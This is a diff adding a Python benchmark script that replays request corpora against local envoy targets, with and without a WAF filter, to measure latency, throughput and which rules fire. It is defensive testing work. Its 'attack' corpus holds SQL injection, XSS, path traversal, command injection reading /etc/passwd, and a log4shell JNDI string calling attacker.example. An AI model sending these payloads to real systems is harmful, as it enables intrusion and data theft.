@@ -0,0 +1,311 @@
+"""Benchmark driver measuring the cost of the WAF filter in the local setup.
+
+Replays request corpora at a fixed concurrency against one or more named
+targets and compares latency and throughput between them. By default envoy
+with the WAF filter (port 8080) is compared with the listener on port 8081,
+which runs the same routes and router without the filter, so the difference
+is the filter alone:
+
+  python3 bench.py --admin waf=http://localhost:8082 --report result.json
+
+The backend reached directly can be added as an extra target to see the
+cost of envoy itself; the comparison baseline stays `nowaf`:
+
+  python3 bench.py --target waf=http://localhost:8080 --target nowaf=http://localhost:8081 \
+      --target direct=http://localhost:8084 --admin waf=http://localhost:8082
+
+When an envoy admin address is given for a target, the `_ruleid=` stats are
+scraped before and after each corpus so the results can be broken down by
+the rule ids that fired. Pointing every target at backend.py works as a
+stand-in when no envoy is running.
+"""
+import argparse
+import json
+import math
+import re
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+import requests
+from requests.adapters import HTTPAdapter
+
+RULE_ID_RE = re.compile(r"_ruleid=(\d+)")
+
+# Each entry is replayed as-is; body_size generates a filler body of that many bytes.
+DEFAULT_CORPORA = {
+    "benign": [
+        {"name": "get-small", "method": "GET", "path": "/bench", "params": {"size": "128"}},
+        {"name": "get-16k", "method": "GET", "path": "/bench", "params": {"size": "16384"}},
+        {"name": "get-query", "method": "GET", "path": "/bench",
+         "params": {"q": "higress gateway", "page": "2", "lang": "en"}},
+        {"name": "post-json", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "application/json"},
+         "body": json.dumps({"user": "alice", "items": [1, 2, 3], "note": "hello"})},
+        {"name": "post-form", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "application/x-www-form-urlencoded"},
+         "body": "name=alice&city=hangzhou&comment=nice+product"},
+    ],
+    "attack": [
+        {"name": "sqli-query", "method": "GET", "path": "/bench", "params": {"id": "1' OR '1'='1' --"}},
+        {"name": "sqli-union", "method": "GET", "path": "/bench",
+         "params": {"id": "1 UNION SELECT username, password FROM users"}},
+        {"name": "xss-query", "method": "GET", "path": "/bench", "params": {"q": "<script>alert(document.cookie)</script>"}},
+        {"name": "path-traversal", "method": "GET", "path": "/bench", "params": {"file": "../../../../etc/passwd"}},
+        {"name": "cmd-injection", "method": "GET", "path": "/bench", "params": {"host": "127.0.0.1; cat /etc/passwd"}},
+        {"name": "log4shell", "method": "GET", "path": "/bench",
+         "headers": {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}},
+        {"name": "scanner-ua", "method": "GET", "path": "/bench", "headers": {"User-Agent": "sqlmap/1.7"}},
+        {"name": "sqli-form", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "application/x-www-form-urlencoded"},
+         "body": "user=admin'--&pass=x"},
+        {"name": "custom-body", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "text/plain"}, "body": "maliciouspayload"},
+        {"name": "admin-uri", "method": "GET", "path": "/admin"},
+    ],
+    "large": [
+        {"name": "post-64k", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "application/octet-stream"}, "body_size": 64 * 1024},
+        {"name": "post-1m", "method": "POST", "path": "/bench",
+         "headers": {"Content-Type": "application/octet-stream"}, "body_size": 1024 * 1024},
+        {"name": "echo-8m", "method": "POST", "path": "/bench", "params": {"echo": "1"},
+         "headers": {"Content-Type": "application/octet-stream"}, "body_size": 8 * 1024 * 1024},
+        {"name": "get-1m", "method": "GET", "path": "/bench", "params": {"size": str(1024 * 1024)}},
+    ],
+}
+
+
+def load_corpus(path):
+    """Load a corpus file: a JSON list or JSONL of request entries."""
+    with open(path, "r", encoding="utf-8") as f:
+        text = f.read().strip()
+    if text.startswith("["):
+        return json.loads(text)
+    return [json.loads(line) for line in text.splitlines() if line.strip()]
+
+
+def parse_pairs(values, what):
+    pairs = {}
+    for value in values or []:
+        name, sep, rest = value.partition("=")
+        if not sep or not name or not rest:
+            raise SystemExit(f"invalid {what} {value!r}, expected NAME=VALUE")
+        pairs[name] = rest
+    return pairs
+
+
+def percentile(values, p):
+    """Nearest-rank percentile of an unsorted list, None when empty."""
+    if not values:
+        return None
+    ordered = sorted(values)
+    return ordered[max(1, math.ceil(p / 100.0 * len(ordered))) - 1]
+
+
+def scrape_rule_counters(admin_url):
+    """Sum the envoy counters carrying a `_ruleid=` tag by rule id."""
+    response = requests.get(f"{admin_url}/stats", params={"filter": "_ruleid="}, timeout=10)
+    response.raise_for_status()
+    counters = {}
+    for line in response.text.splitlines():
+        name, _, value = line.rpartition(":")
+        match = RULE_ID_RE.search(name)
+        if match and value.strip().isdigit():
+            counters[match.group(1)] = counters.get(match.group(1), 0) + int(value)
+    return counters
+
+
+def prepare(entry):
+    body = entry.get("body")
+    if body is None and entry.get("body_size"):
+        body = b"a" * int(entry["body_size"])
+    elif isinstance(body, str):
+        body = body.encode("utf-8")
+    return {
+        "name": entry.get("name", entry.get("path", "/")),
+        "method": entry.get("method", "GET"),
+        "path": entry.get("path", "/"),
+        "params": entry.get("params"),
+        "headers": entry.get("headers"),
+        "body": body,
+    }
+
+
+def run_corpus(base_url, entries, concurrency, total, timeout):
+    """Replay the entries round-robin at a fixed concurrency and collect per-request records."""
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=concurrency, pool_maxsize=concurrency)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    counter = iter(range(total))
+    lock = threading.Lock()
+
+    def worker():
+        local = []
+        while True:
+            with lock:
+                index = next(counter, None)
+            if index is None:
+                break
+            entry = entries[index % len(entries)]
+            record = {"name": entry["name"], "status": None, "error": None}
+            start_time = time.perf_counter()
+            try:
+                response = session.request(entry["method"], base_url + entry["path"], params=entry["params"],
+                                            headers=entry["headers"], data=entry["body"], timeout=timeout)
+                response.content
+                record["status"] = response.status_code
+            except requests.exceptions.RequestException as e:
+                record["error"] = str(e)
+            record["latency"] = time.perf_counter() - start_time
+            local.append(record)
+        return local
+
+    start_time = time.perf_counter()
+    with ThreadPoolExecutor(max_workers=concurrency) as executor:
+        futures = [executor.submit(worker) for _ in range(concurrency)]
+    elapsed = time.perf_counter() - start_time
+    # result() re-raises a worker's exception instead of silently losing its records
+    records = [record for future in futures for record in future.result()]
+    session.close()
+    return records, elapsed
+
+
+def summarize(records, elapsed):
+    latencies = [r["latency"] for r in records if r["error"] is None]
+    total = len(records)
+    errors = sum(1 for r in records if r["error"] is not None or r["status"] >= 500)
+    blocked = sum(1 for r in records if r["status"] == 403)
+    by_entry = {}
+    for r in records:
+        entry = by_entry.setdefault(r["name"], {"requests": 0, "blocked": 0, "latencies": []})
+        entry["requests"] += 1
+        entry["blocked"] += r["status"] == 403
+        if r["error"] is None:
+            entry["latencies"].append(r["latency"])
+    return {
+        "requests": total,
+        "elapsed": elapsed,
+        "throughput": total / elapsed if elapsed > 0 else 0.0,
+        "errors": errors,
+        "blocked": blocked,
+        "block_rate": blocked / total if total else 0.0,
+        "latency": {
+            "p50": percentile(latencies, 50),
+            "p90": percentile(latencies, 90),
+            "p99": percentile(latencies, 99),
+            "max": max(latencies) if latencies else None,
+        },
+        "entries": {
+            name: {"requests": e["requests"], "blocked": e["blocked"], "p50": percentile(e["latencies"], 50)}
+            for name, e in by_entry.items()
+        },
+    }
+
+
+def ms(value):
+    return "-" if value is None else f"{value * 1000:.2f}"
+
+
+def print_results(results, baseline):
+    header = ["corpus", "target", "req/s", "p50 ms", "p90 ms", "p99 ms", "max ms", "errors", "blocked", "p50 +ms"]
+    rows = []
+    for corpus, targets in results.items():
+        base = targets.get(baseline)
+        for target, result in targets.items():
+            latency = result["latency"]
+            overhead = "-"
+            if base and target != baseline and latency["p50"] is not None and base["latency"]["p50"] is not None:
+                overhead = f"{(latency['p50'] - base['latency']['p50']) * 1000:+.2f}"
+            rows.append([corpus, target, f"{result['throughput']:.1f}", ms(latency["p50"]), ms(latency["p90"]),
+                         ms(latency["p99"]), ms(latency["max"]), str(result["errors"]),
+                         f"{result['blocked']} ({result['block_rate']:.0%})", overhead])
+    widths = [max(len(row[i]) for row in rows + [header]) for i in range(len(header))]
+    for row in [header] + rows:
+        print("  ".join(cell.ljust(width) for cell, width in zip(row, widths)).rstrip())
+
+    for corpus, targets in results.items():
+        for target, result in targets.items():
+            rules = result.get("rules")
+            if rules:
+                fired = ", ".join(f"{rule}:{count}" for rule, count in
+                                  sorted(rules.items(), key=lambda item: -item[1]))
+                print(f"{corpus}/{target} rules fired: {fired}")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="WAF rule overhead benchmark for the local envoy setup")
+    parser.add_argument("--target", action="append",
+                        help="NAME=BASE_URL of a target, may be repeated "
+                             "(default: waf=http://localhost:8080 and nowaf=http://localhost:8081)")
+    parser.add_argument("--admin", action="append",
+                        help="NAME=ADMIN_URL of the envoy admin for a target, enables the per-rule breakdown")
+    parser.add_argument("--baseline",
+                        help="Target the others are compared with (default: nowaf if given, else the last target)")
+    parser.add_argument("--corpus", action="append",
+                        help="NAME or NAME=FILE (JSON list or JSONL of requests); "
+                             "built-in: " + ", ".join(DEFAULT_CORPORA) + " (default: all built-in)")
+    parser.add_argument("--concurrency", type=int, default=16, help="Concurrent requests")
+    parser.add_argument("--requests", type=int, default=2000, help="Requests per corpus and target")
+    parser.add_argument("--warmup", type=int, default=100, help="Unmeasured requests per corpus and target")
+    parser.add_argument("--timeout", type=float, default=30, help="Per-request timeout in seconds")
+    parser.add_argument("--report", help="Write the results as JSON to this file")
+    args = parser.parse_args()
+
+    targets = parse_pairs(args.target, "target") or {
+        "waf": "http://localhost:8080",
+        "nowaf": "http://localhost:8081",
+    }
+    admins = parse_pairs(args.admin, "admin")
+    baseline = args.baseline or ("nowaf" if "nowaf" in targets else list(targets)[-1])
+    if baseline not in targets:
+        parser.error(f"unknown baseline target {baseline!r}")
+
+    corpora = {}
+    for value in args.corpus or list(DEFAULT_CORPORA):
+        name, sep, path = value.partition("=")
+        if sep:
+            corpora[name] = load_corpus(path)
+        elif name in DEFAULT_CORPORA:
+            corpora[name] = DEFAULT_CORPORA[name]
+        else:
+            parser.error(f"unknown corpus {name!r}")
+
+    results = {}
+    for corpus, entries in corpora.items():
+        prepared = [prepare(entry) for entry in entries]
+        results[corpus] = {}
+        for target, base_url in targets.items():
+            base_url = base_url.rstrip("/")
+            if args.warmup:
+                run_corpus(base_url, prepared, args.concurrency, args.warmup, args.timeout)
+            before = scrape_rule_counters(admins[target]) if target in admins else None
+            records, elapsed = run_corpus(base_url, prepared, args.concurrency, args.requests, args.timeout)
+            result = summarize(records, elapsed)
+            if before is not None:
+                after = scrape_rule_counters(admins[target])
+                result["rules"] = {rule: count - before.get(rule, 0) for rule, count in after.items()
+                                   if count - before.get(rule, 0) > 0}
+            results[corpus][target] = result
+            print(f"{corpus}/{target}: {result['requests']} requests in {elapsed:.2f}s", flush=True)
+
+    print_results(results, baseline)
+
+    if args.report:
+        report = {
+            "config": {
+                "targets": targets,
+                "baseline": baseline,
+                "concurrency": args.concurrency,
+                "requests": args.requests,
+                "corpora": list(corpora),
+            },
+            "results": results,
+        }
+        with open(args.report, "w", encoding="utf-8") as f:
+            json.dump(report, f, indent=2)
+        print(f"Report written to {args.report}")
+
+
+if __name__ == "__main__":
+    main()